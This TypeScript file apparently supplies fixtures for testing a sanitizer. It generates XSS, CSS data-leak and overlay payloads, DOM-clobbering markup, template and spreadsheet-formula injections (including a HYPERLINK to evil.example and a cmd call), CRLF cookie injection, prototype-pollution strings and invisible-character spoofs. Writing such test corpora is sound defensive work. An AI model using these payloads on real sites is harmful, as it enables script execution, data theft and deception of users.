import { RUN } from './spellings.ts'

/** Style that asks elsewhere, runs, or lays an element over the page. */
const DECLARATIONS = (elsewhere: string): readonly string[] => [
  `background:url(${elsewhere}/a)`,
  `background-image:image-set('${elsewhere}/a' 1x)`,
  `list-style:url(${elsewhere}/a)`,
  `cursor:url(${elsewhere}/a),auto`,
  `content:url(${elsewhere}/a)`,
  `border-image:url(${elsewhere}/a)`,
  `mask:url(${elsewhere}/a)`,
  `filter:url(${elsewhere}/a#x)`,
  `--a:url(${elsewhere}/a);background:var(--a)`,
  `behavior:url(${elsewhere}/a.htc)`,
  `-moz-binding:url(${elsewhere}/a.xml#x)`,
  `width:expression(${RUN})`,
  `background:url(javascript:${RUN})`,
  'position:fixed;inset:0;z-index:2147483647;background:#fff',
  'position:absolute;top:0;left:0;width:100vw;height:100vh',
  'position:sticky;top:0;z-index:99',
  'transform:scale(99)',
  'margin:-9999px;padding:9999px',
  'font-size:9999px',
  'display:contents;float:left;width:9999px;height:9999px;margin-top:-500px',
  'pointer-events:none;opacity:0',
  'animation:x 1s;animation-name:x',
]
const WEARERS = ['div', 'p', 'span', 'td', 'img alt=x', 'a href="https://ok.example"']

/** Names by which an element takes the place of a property of the window, the document or a form. */
const CLOBBERED =
  'document location cookie body head forms images children attributes parentNode firstChild nodeName getElementById querySelector createElement ' +
  'addEventListener defaultView currentScript __next __NEXT_DATA__ next self webpackChunk config apiHost hall'

export const dressAttacks = (elsewhere: string): readonly string[] => [
  ...DECLARATIONS(elsewhere).flatMap((style) => [
    ...WEARERS.map((tag) => `<${tag} style="${style}">x</${tag.split(' ')[0]}>`),
    `<style>*{${style}}</style>`,
  ]),
  `<style>@import url(${elsewhere}/a.css);</style>`,
  `<style>@import '${elsewhere}/a.css';</style>`,
  `<style>@font-face{font-family:x;src:url(${elsewhere}/a)}*{font-family:x}</style>`,
  `<style>input[value^="a"]{background:url(${elsewhere}/a)}</style>`,
  `<svg><style>@import url(${elsewhere}/a.css);</style></svg>`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`,
  `<dialog open style="position:fixed">x</dialog>`,
  `<div popover=manual id=x>x</div><button popovertarget=x autofocus>x</button>`,
  `<marquee behavior=alternate loop=-1 scrollamount=999>x</marquee>`,
  `<font size=999 color=white face=x>x</font>`,
  `<table width=9999 height=9999><tr><td width=9999 height=9999>x</td></tr></table>`,
  `<img alt=x width=99999 height=99999 hspace=999 vspace=999 border=999>`,
  ...CLOBBERED.split(' ').flatMap((name) => [
    `<a id=${name} name=${name} href="https://ok.example">x</a>`,
    `<form id=${name}><input name=${name} id=attributes></form>`,
    `<img name=${name} alt=x>`,
  ]),
]

const HIDING =
  '\u202a \u202b \u202d \u202e \u2066 \u2067 \u2068 \u200b \u200e \u200f \u2060 \ufeff \u00ad \u061c \u180e'

/** Texts without markup that may be taken for another thing: by readers, a template or a spreadsheet. */
export const textAttacks: readonly string[] = [
  ...HIDING.split(' ').map((mark) => `余额${mark}00.0001${mark}¥ 存款成功`),
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '[[${alert(1)}]]',
  "';alert(1);//",
  '"-alert(1)-"',
  '`-alert(1)-`',
  '\\"-alert(1)//',
  '=HYPERLINK("https://evil.example","x")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '+1+cmd',
  '\r\nSet-Cookie: a=1',
  '"><svg/onload=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '*/alert(1)/*',
  `${'\u0301'.repeat(100)}x`,
  'W'.repeat(300),
  `${'<b>'.repeat(40)}x`,
  `${'<div>'.repeat(40)}x${'</div>'.repeat(40)}`,
  '__proto__',
  '{"__proto__":{"x":1}}',
  'null\u0000byte',
  '\ud800',
]
